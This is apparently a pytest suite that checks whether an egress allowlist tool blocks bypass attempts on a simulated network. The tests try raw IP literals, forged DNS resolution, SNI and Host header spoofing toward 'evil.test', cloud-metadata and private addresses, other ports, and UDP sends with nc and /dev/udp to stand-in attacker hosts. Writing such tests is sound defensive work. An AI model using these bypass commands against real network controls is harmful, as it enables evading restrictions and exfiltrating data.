"""Attempts to get around the allowlist: raw IPs, forged resolution, SNI/Host games, internal
addresses, other ports, UDP. Every target is a host of the virtual internet."""

from __future__ import annotations

import shlex
import time

import pytest

import vnet as V
from conftest import ALLOWED, dest_str, reached

NO_PROXY = ("--noproxy", "*")
CODES = "\\ncode=%{http_code} connect=%{http_connect}"


def denied_403(r) -> bool:
    return "code=403" in r.stdout or "connect=403" in r.stdout


# ---------------------------------------------------------------------------- raw IPs
@pytest.mark.parametrize("url", [f"http://{V.ALLOWED4}/raw", f"https://{V.ALLOWED4}/raw",
                                 "http://[2001:db8:1::10]/raw", "https://[2001:db8:1::10]/raw"],
                         ids=["v4-http", "v4-https", "v6-http", "v6-https"])
def test_ip_literal_denied_via_proxy(awf, vnet, url):
    m = vnet.mark()
    r = awf(["-d", "allowed.test"], awf.curl("-w", CODES, url))
    assert denied_403(r) and "origin=" not in r.stdout, r.describe()
    host = url.split("/")[2].strip("[]")
    recs = [x for x in r.audit if x.get("action") == "deny" and host in str(x.get("name"))]
    assert recs, r.describe()
    assert any(d["status"] == 403 for d in r.access), r.describe()
    assert not reached(vnet, m, origin=host) and not [x for x in reached(vnet, m) if x.get("path") == "/raw"]


@pytest.mark.parametrize("url", [f"http://{V.ALLOWED4}/raw", f"https://{V.ALLOWED4}/raw",
                                 "http://[2001:db8:1::10]/raw", "https://[2001:db8:1::10]/raw"],
                         ids=["v4-http", "v4-https", "v6-http", "v6-https"])
def test_ip_literal_denied_transparent(awf, vnet, url):
    m = vnet.mark()
    r = awf(["-d", "allowed.test"], awf.curl(*NO_PROXY, "-w", CODES, url))
    assert "origin=" not in r.stdout, r.describe()
    if url.startswith("http:"):
        assert "code=403" in r.stdout, r  # Host is the IP literal: denied
    else:
        assert r.rc != 0, r  # no SNI for an IP literal: the connection is closed
    assert [x for x in r.audit if x.get("action") == "deny"], r.describe()
    assert not [x for x in reached(vnet, m) if x.get("path") == "/raw"]
    assert not reached(vnet, m, origin=url.split("/")[2].strip("[]"))


def test_ip_literal_allowed_when_listed(awf, vnet):
    r = awf(["-d", f"allowed.test,{V.OTHER4}"], awf.curl(f"http://{V.OTHER4}/ip"))
    assert r.rc == 0 and r.origin.get("origin") == V.OTHER4, r.describe()


def test_transparent_tls_without_sni_closed(awf, vnet):
    m = vnet.mark()
    r = awf(["-d", "allowed.test"],
            ["openssl", "s_client", "-connect", f"{V.ALLOWED4}:443", "-noservername",
             "-CAfile", vnet.ca_path], input=b"")
    assert "BEGIN CERTIFICATE" not in r.stdout, r.describe()
    assert not [x for x in reached(vnet, m) if x.get("kind") == "tls" and x.get("sni") is None]
    assert [x for x in r.audit if x.get("action") == "deny"], r.describe()


# ---------------------------------------------------------------------------- forged resolution
@pytest.mark.parametrize("scheme,port", [("https", 443), ("http", 80)])
def test_resolve_override_ignored(awf, vnet, scheme, port):
    """curl connects to the evil host's address, but awf connects to allowed.test's own."""
    m = vnet.mark()
    r = awf(["-d", "allowed.test"],
            awf.curl(*NO_PROXY, "--resolve", f"allowed.test:{port}:{V.EVIL4}",
                     f"{scheme}://allowed.test/forged"))
    assert r.rc == 0, r.describe()
    assert r.origin.get("origin") in ALLOWED and r.origin["host"] == "allowed.test", r.describe()
    lines = [d for d in r.access_for("allowed.test") if d["status"] == 200]
    assert lines and all(d["dest_addr"] in ALLOWED for d in lines), r.describe()
    assert not reached(vnet, m, origin=V.EVIL4) and not reached(vnet, m, origin=V.EVIL6)


def test_sni_differs_from_connect_host_curl(awf, vnet):
    """CONNECT allowed.test:443 but the ClientHello says evil.test: the tunnel is closed."""
    m = vnet.mark()
    r = awf(["-d", "allowed.test"],
            awf.curl("--connect-to", "evil.test:443:allowed.test:443", "https://evil.test/sni"))
    assert r.rc != 0 and "origin=" not in r.stdout, r.describe()
    assert not reached(vnet, m, sni="evil.test"), vnet.origin_requests(m)
    assert not [x for x in reached(vnet, m) if x.get("path") == "/sni"]
    denials = [x for x in r.audit if x.get("action") == "deny"]
    assert denials and any("evil.test" in str(x) or "sni" in str(x).lower() for x in denials), r.describe()


def test_sni_differs_from_connect_host_openssl(awf, vnet):
    m = vnet.mark()
    r = awf(["-d", "allowed.test"],
            ["openssl", "s_client", "-proxy", "127.0.0.1:3128", "-connect", "allowed.test:443",
             "-servername", "evil.test", "-CAfile", vnet.ca_path], input=b"")
    assert "BEGIN CERTIFICATE" not in r.stdout, r.describe()
    assert not reached(vnet, m, sni="evil.test"), vnet.origin_requests(m)
    assert [x for x in r.audit if x.get("action") == "deny"], r.describe()


def test_transparent_sni_is_the_name(awf, vnet):
    """TLS to the allowed origin's address with SNI evil.test: denied by name."""
    m = vnet.mark()
    r = awf(["-d", "allowed.test"],
            awf.curl(*NO_PROXY, "--resolve", f"evil.test:443:{V.ALLOWED4}", "https://evil.test/"))
    assert r.rc != 0 and "origin=" not in r.stdout, r.describe()
    assert r.audit_for("evil.test", action="deny"), r.describe()
    assert not reached(vnet, m, sni="evil.test")


@pytest.mark.parametrize("transparent", [False, True], ids=["proxy", "transparent"])
def test_host_header_spoof_never_reaches_evil(awf, vnet, transparent):
    m = vnet.mark()
    extra = NO_PROXY if transparent else ()
    r = awf(["-d", "allowed.test"],
            awf.curl(*extra, "-H", "Host: evil.test", "-w", CODES, "http://allowed.test/spoof"))
    assert not reached(vnet, m, origin=V.EVIL4) and not reached(vnet, m, origin=V.EVIL6)
    if transparent:  # the Host header is the name
        assert "code=403" in r.stdout and "origin=" not in r.stdout, r.describe()
        assert not reached(vnet, m, host="evil.test")


# ---------------------------------------------------------------------------- internal addresses
@pytest.mark.parametrize("name,addr", [("private.test", V.PRIVATE4), ("metadata.test", V.METADATA4)])
@pytest.mark.parametrize("scheme", ["http", "https"])
def test_allowed_name_resolving_internal_refused_via_proxy(awf, vnet, name, addr, scheme):
    m = vnet.mark()
    r = awf(["-d", name], awf.curl("-w", CODES, f"{scheme}://{name}/internal"))
    assert denied_403(r) and "origin=" not in r.stdout, r.describe()
    recs = r.audit_for(name, action="deny")
    assert recs, r.describe()
    assert any(d["status"] == 403 for d in r.access_for(name)), r.describe()
    assert not reached(vnet, m, origin=addr)


@pytest.mark.parametrize("name,addr", [("private.test", V.PRIVATE4), ("metadata.test", V.METADATA4)])
def test_allowed_name_resolving_internal_refused_transparent(awf, vnet, name, addr):
    m = vnet.mark()
    r = awf(["-d", name], awf.curl(*NO_PROXY, "-w", CODES, f"http://{name}/internal"))
    assert "origin=" not in r.stdout, r.describe()
    # The internal address never reaches the command: awf strips it from the DNS answer (DNS
    # rebinding defence), so the transparent path has nothing to dial.
    stripped = [x for x in r.audit_for(name, kind="dns")
                if f"removed internal addresses: {addr}" in x.get("reason", "")]
    assert stripped, r.describe()
    assert not reached(vnet, m, origin=addr)


def test_metadata_ip_literal_refused(awf, vnet):
    m = vnet.mark()
    r = awf(["-d", "allowed.test"],
            ["bash", "-c", shlex.join(awf.curl("-w", CODES, f"http://{V.METADATA4}/latest/")) + "; " +
             shlex.join(awf.curl(*NO_PROXY, "-w", CODES, f"http://{V.METADATA4}/latest/"))])
    assert "origin=" not in r.stdout and r.stdout.count("code=403") == 2, r.describe()
    assert not reached(vnet, m, origin=V.METADATA4)


# ---------------------------------------------------------------------------- ports and UDP
def test_other_tcp_port_refused_at_once(awf, vnet):
    m = vnet.mark()
    targets = ["http://allowed.test:8080/", f"http://{V.OTHER4}:8080/", "http://[2001:db8:1::11]:8080/",
               f"http://{V.EVIL4}:22/"]
    script = "; ".join(
        f"s=$(date +%s%N); curl -sS --noproxy '*' --max-time 10 -o /dev/null {t}; "
        f"echo \"rc=$? ms=$(( ($(date +%s%N) - s) / 1000000 ))\"" for t in targets)
    r = awf(["-d", "allowed.test"], ["bash", "-c", script])
    res = [dict(kv.split("=") for kv in l.split()) for l in r.stdout.splitlines() if l.startswith("rc=")]
    assert len(res) == len(targets), r.describe()
    for t, x in zip(targets, res):
        assert x["rc"] == "7", f"{t}: {x}" + r.describe()
        assert int(x["ms"]) < 2000, f"{t}: {x}" + r.describe()
    assert not reached(vnet, m, port=8080) and not reached(vnet, m, port=22)


def test_connect_to_other_port_via_proxy_denied(awf, vnet):
    m = vnet.mark()
    r = awf(["-d", "allowed.test"],
            awf.curl("--proxytunnel", "-w", CODES, "http://allowed.test:8080/"))
    assert "connect=403" in r.stdout and "origin=" not in r.stdout, r.describe()
    assert not reached(vnet, m, port=8080)


def test_udp_reaches_nothing(awf, vnet, nonce):
    m = vnet.mark()
    sends = []
    for addr in (V.EVIL4, V.EVIL6, V.OTHER4, V.DNS4):
        for port in V.UDP_SINK_PORTS:
            sends.append(f"echo {nonce} >/dev/udp/{addr}/{port}")
    sends.append(f"echo {nonce} | nc -u -w1 {V.EVIL4} 9999")
    r = awf(["-d", "allowed.test,evil.test,other.test"],
            ["bash", "-c", "; ".join(s + " 2>/dev/null" for s in sends) + "; echo sent"])
    assert "sent" in r.stdout, r.describe()
    time.sleep(0.5)
    assert vnet.udp_datagrams(m) == []
